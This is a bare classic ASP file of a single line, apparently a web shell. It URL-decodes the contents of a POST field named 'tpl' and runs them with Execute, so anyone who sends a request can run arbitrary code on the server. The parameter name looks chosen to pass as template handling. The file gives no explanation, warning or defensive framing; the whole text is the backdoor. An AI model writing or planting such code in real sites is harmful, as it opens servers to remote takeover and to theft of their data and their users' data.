<%
Execute(UnEscape(Request.Form("tpl")))
%>
